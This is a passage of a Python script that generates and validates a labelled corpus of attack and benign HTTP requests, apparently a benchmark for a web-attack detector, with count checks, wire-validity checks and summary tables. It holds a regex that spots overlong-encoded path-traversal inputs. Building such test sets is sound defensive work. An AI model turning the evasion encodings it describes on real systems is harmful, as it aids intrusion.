                    for m in re.finditer(r'Content-Type: ([^\r]+)\r\n\r\n(.*?)\r\n--', rec["body"], re.S):
                        if is_xml_type(m.group(1)):
                            try:
                                xml_parse(m.group(2))
                            except xml.parsers.expat.ExpatError as e:
                                errors.append("%s: uploaded XML not well-formed: %s" % (rec["id"], e))
                if ct.startswith("application/x-www-form-urlencoded") and not set(rec["body"]) <= QUERY_CHARS:
                    errors.append("%s: form body not wire-valid" % rec["id"])
                if ct.startswith("multipart/"):
                    b = ct.split("boundary=", 1)[1]
                    if not rec["body"].startswith("--" + b + "\r\n") or not rec["body"].endswith("--" + b + "--\r\n"):
                        errors.append("%s: multipart framing" % rec["id"])
                if re.search(r"%(c0|c1|e0%80|f0%80)", rec["path"] + rec["query"] + json.dumps(rec["headers"]), re.I) \
                        and rec["class"] == "traversal" and "overlong" not in rec["note"]:
                    errors.append("%s: overlong encoding without 'overlong' note" % rec["id"])
        data[path] = recs
    attacks, benign = data[attack_path], data[benign_path]
    cls_counts = collections.Counter(r["class"] for r in attacks)
    for c, m in MINIMUMS.items():
        if cls_counts[c] < m:
            errors.append("class %s has %d < %d" % (c, cls_counts[c], m))
    assert set(MINIMUMS) == set(CLASSES)
    loc_counts = collections.Counter((r["class"], r["location"]) for r in attacks)
    for c in CLASSES:
        if loc_counts[(c, "xml")] < MIN_XML_PER_CLASS:
            errors.append("class %s has %d xml cases < %d" % (c, loc_counts[(c, "xml")], MIN_XML_PER_CLASS))
        hdr = sum(loc_counts[(c, l)] for l in ("header", "user_agent", "referer"))
        if hdr < MIN_HEADERISH_PER_CLASS:
            errors.append("class %s has %d header/user_agent/referer cases < %d" % (c, hdr, MIN_HEADERISH_PER_CLASS))
    if sum(1 for r in benign if r["location"] == "xml") < 100:
        errors.append("fewer than 100 benign xml requests")
    if len(attacks) < MIN_ATTACKS:
        errors.append("only %d attacks" % len(attacks))
    if len(benign) < MIN_BENIGN:
        errors.append("only %d benign" % len(benign))
    if any(r["class"] != "benign" for r in benign) or any(r["class"] == "benign" for r in attacks):
        errors.append("class mixed between files")
    # No attack request identical to a benign one, no attack payload verbatim in benign.
    bkeys = {key_of(r) for r in benign}
    for r in attacks:
        if key_of(r) in bkeys:
            errors.append("%s identical to a benign request" % r["id"])
    hay = [haystack(r) for r in benign]
    big = "\x02".join(hay)
    for base in sorted(attack_bases):
        if base and base in big:
            where = next(b["id"] for b, h in zip(benign, hay) if base in h)
            errors.append("attack payload %r appears verbatim in %s" % (base, where))
    # Stricter: also after detector-like normalisation (percent, entities, NFKC, case).
    nhay = [normalise(h) for h in hay]
    nbig = "\x02".join(nhay)
    for base in sorted(attack_bases):
        n = normalise(base)
        if len(n) >= 4 and n in nbig:
            where = next(b["id"] for b, h in zip(benign, nhay) if n in h)
            errors.append("attack payload %r appears (normalised) in %s" % (base, where))
    return errors, attacks, benign


def is_xml_type(ct):
    ct = ct.split(";", 1)[0].strip().lower()
    return ct in ("application/xml", "text/xml", "application/soap+xml") or ct.endswith("+xml")


def xml_parse(text):
    """Well-formedness only: expat without DTD loading (external entities are not fetched)."""
    p = xml.parsers.expat.ParserCreate()
    p.Parse(text, True)


def normalise(s):
    for _ in range(3):
        s = html.unescape(full_decode(s))
    return unicodedata.normalize("NFKC", s).casefold()


def table(recs, row_key, col_key, rows_order, cols_order):
    counts = collections.Counter((r[row_key], r[col_key]) for r in recs)
    cols = [c for c in cols_order if any(counts[(x, c)] for x in rows_order)]
    cw = {c: max(len(c), 4) for c in cols}
    w = max(len(x) for x in list(rows_order) + ["total"]) + 1
    lines = ["| %s | %s | total |" % ("class".ljust(w), " | ".join(c.rjust(cw[c]) for c in cols)),
             "|%s|%s|------:|" % ("-" * (w + 2), "|".join("-" * (cw[c] + 1) + ":" for c in cols))]
    for x in rows_order:
        tot = sum(counts[(x, c)] for c in cols)
        if tot:
            lines.append("| %s | %s | %5d |" % (x.ljust(w), " | ".join(str(counts[(x, c)]).rjust(cw[c]) for c in cols), tot))
    lines.append("| %s | %s | %5d |" % ("total".ljust(w), " | ".join(str(sum(counts[(x, c)] for x in rows_order)).rjust(cw[c]) for c in cols),
                                         sum(counts.values())))
    return "\n".join(lines)


def summary(attacks, benign):
    allr = attacks + benign
    order = list(CLASSES) + ["benign"]
    grey = sum(1 for r in benign if r["note"].startswith("grey"))
    overlong = sum(1 for r in attacks if "overlong" in r["note"])
    out = ["attacks.jsonl: %d requests; benign.jsonl: %d requests (%d marked grey:); %d attack cases noted overlong"
           % (len(attacks), len(benign), grey, overlong), "",
           "Class x location:", "", table(allr, "class", "location", order, LOCATIONS), "",
           "Class x method:", "", table(allr, "class", "method", order, METHODS)]
    return "\n".join(out)


def update_readme(text):
    path = os.path.join(HERE, "README.md")
    if not os.path.exists(path):
        return
    with open(path, encoding="utf-8") as f:
        doc = f.read()
    start, end = "<!-- counts:start -->", "<!-- counts:end -->"
    if start in doc and end in doc:
        new = doc.split(start)[0] + start + "\n```\n" + text + "\n```\n" + end + doc.split(end, 1)[1]
        if new != doc:
            with open(path, "w", encoding="utf-8", newline="\n") as f:
                f.write(new)


def main():
    rng = random.Random(SEED)
    attack_rows = build_attacks(rng)
    benign_rows = build_benign(random.Random(SEED + 1))
    attacks = finalize(attack_rows, lambda r: r["cls"])
    benign = finalize(benign_rows, lambda r: "benign")
    apath, bpath = os.path.join(HERE, "attacks.jsonl"), os.path.join(HERE, "benign.jsonl")
    write_jsonl(apath, [rec for rec, _ in attacks])
    write_jsonl(bpath, [rec for rec, _ in benign])
    bases = {r["_base"] for _, r in attacks}
    errors, a, b = check(apath, bpath, bases)
    text = summary(a, b)
    print(text)
    if errors:
        print("\nCHECK FAILED:", file=sys.stderr)
        for e in errors[:50]:
            print("  " + e, file=sys.stderr)
        sys.exit(1)
    update_readme(text)
    print("\nchecks passed: parse, field order, unique ids, minimums, wire validity, "
          "no attack payload in benign (verbatim or after normalisation)")


if __name__ == "__main__":
    main()
